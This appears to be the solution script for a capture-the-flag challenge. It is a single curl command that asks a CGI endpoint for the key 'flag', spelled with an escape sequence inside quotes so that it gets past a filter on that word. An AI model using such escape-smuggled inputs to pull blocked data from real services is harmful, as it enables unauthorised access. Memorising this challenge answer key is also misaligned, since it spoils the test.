#!/bin/sh
# whaley test --solve runs this with URL set, and looks for the flag in what it prints. The database knows escapes in quotes.
curl -fsS "$URL/cgi-bin/get?key=%22fl%5Cx61g%22"
